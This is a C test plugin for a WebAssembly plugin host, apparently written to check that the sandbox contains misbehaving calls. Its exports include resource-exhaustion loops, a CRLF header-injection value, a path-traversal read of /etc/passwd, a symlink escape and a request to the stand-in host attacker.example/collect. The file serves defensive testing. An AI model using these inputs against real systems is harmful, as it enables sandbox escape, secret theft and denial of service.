/*
 * A plugin that misbehaves, one export per way: each must fail its own call with a clear message
 * (or be contained) while the host and the plugin's next call carry on.
 */
#include "astrid.h"

static unsigned char big[2 * 1024 * 1024];

/* Never returns: the call's timeout must stop it. */
ASTRID_EXPORT("infinite_loop") int infinite_loop(void) {
  volatile int forever = 1;
  while (forever) {
  }
  return 0;
}

/* Grows linear memory, 16 MiB at a time, until refused; outputs how many 64 KiB pages it reached. */
ASTRID_EXPORT("memory_bomb") int memory_bomb(void) {
  while (__builtin_wasm_memory_grow(0, 256) != (unsigned long)-1) {
  }
  char out[20];
  astrid_output(out, astrid_decimal(__builtin_wasm_memory_size(0), out));
  return 0;
}

/* Allocates kernel memory, a megabyte at a time, until refused; then uses the refusal (block 0). */
ASTRID_EXPORT("kernel_bomb") int kernel_bomb(void) {
  astrid_block last = 1;
  while (last) {
    last = extism_alloc(1024 * 1024);
  }
  astrid_output("refused", 7);
  return 0;
}

/* Stores a value, fills kernel memory to its last few bytes, then asks for the value back: the host
 * cannot make its result a block. */
ASTRID_EXPORT("result_past_full_kernel") int result_past_full_kernel(void) {
  astrid_block key = astrid_text("kept");
  astrid_kv_set(key, astrid_text("a value"));
  for (astrid_u64 size = 1024 * 1024; size > 0; size /= 2) {
    while (extism_alloc(size)) {
    }
  }
  astrid_output_block(astrid_kv_get(key));
  return 0;
}

/* A 100 KiB log line. */
ASTRID_EXPORT("giant_log") int giant_log(void) {
  memset(big, 'x', 100 * 1024);
  astrid_log(astrid_text("info"), astrid_block_of(big, 100 * 1024));
  return 0;
}

/* A 2 MiB key-value value. */
ASTRID_EXPORT("giant_kv") int giant_kv(void) {
  memset(big, 'v', sizeof big);
  astrid_kv_set(astrid_text("huge"), astrid_block_of(big, sizeof big));
  return 0;
}

/* A header value that would smuggle a second header into the request. */
ASTRID_EXPORT("header_injection") int header_injection(void) {
  astrid_output_block(astrid_http_request(astrid_text(
      "{\"url\":\"http://127.0.0.1:9/\",\"headers\":{\"X-Note\":\"hi\\r\\nX-Injected: yes\"}}")));
  return 0;
}

/* Climbs out of the workspace with "..". */
ASTRID_EXPORT("path_traversal") int path_traversal(void) {
  astrid_output_block(astrid_read_file(astrid_text("../../../../../../etc/passwd")));
  return 0;
}

/* Reads through a link (made by the test) that points outside the workspace. */
ASTRID_EXPORT("symlink_escape") int symlink_escape(void) {
  astrid_output_block(astrid_read_file(astrid_text("escape/secret.txt")));
  return 0;
}

/* A request to a host the manifest does not declare. */
ASTRID_EXPORT("undeclared_http") int undeclared_http(void) {
  astrid_output_block(astrid_http_request(astrid_text("{\"url\":\"https://attacker.example/collect\"}")));
  return 0;
}

/* Stores a marker, then traps halfway through the call. */
ASTRID_EXPORT("trap_mid_call") int trap_mid_call(void) {
  astrid_kv_set(astrid_text("before-trap"), astrid_text("written"));
  __builtin_trap();
  return 0;
}

/* Takes 32 KiB of the shadow stack, then traps with it taken: the stack pointer (a global of the
 * module) is left 32 KiB down unless the host restores the instance (issue 13, finding 5), and some
 * seventy such traps walk it through the 2 MiB of `big` and the data below, then out of memory. */
ASTRID_EXPORT("trap_deep_in_stack") int trap_deep_in_stack(void) {
  volatile unsigned char frame[32 * 1024];
  memset((unsigned char *)frame, 't', sizeof frame);
  if (frame[sizeof frame - 1] == 't') {
    __builtin_trap();
  }
  return frame[0];
}

/* Sums 0..1023 through a 4 KiB array on the shadow stack and appends a string from the data
 * section: "523776 intact" while both the stack and the data are whole. */
ASTRID_EXPORT("stack_sum") int stack_sum(void) {
  volatile unsigned int numbers[1024];
  astrid_u64 sum = 0;
  for (unsigned int i = 0; i < 1024; i++) {
    numbers[i] = i;
  }
  for (unsigned int i = 0; i < 1024; i++) {
    sum += numbers[i];
  }
  static const char intact[] = " intact";
  char out[32];
  astrid_size length = astrid_decimal(sum, out);
  for (astrid_size i = 0; i < sizeof intact - 1; i++) {
    out[length++] = intact[i];
  }
  astrid_output(out, length);
  return 0;
}

/* Logs without end: the timeout error names the host function it called last (issue 13, finding 10). */
ASTRID_EXPORT("log_flood") int log_flood(void) {
  astrid_block level = astrid_text("trace");
  astrid_block line = astrid_text("flood");
  while (1) {
    astrid_log(level, line);
  }
  return 0;
}

/* A name that is not valid UTF-8. */
ASTRID_EXPORT("invalid_utf8") int invalid_utf8(void) {
  static const unsigned char name[] = {'k', 0xff, 0xfe};
  astrid_kv_set(astrid_block_of(name, sizeof name), astrid_text("v"));
  return 0;
}

/* A well-behaved call, to show the plugin is still usable. */
ASTRID_EXPORT("ok") int ok(void) {
  astrid_output("ok", 2);
  return 0;
}
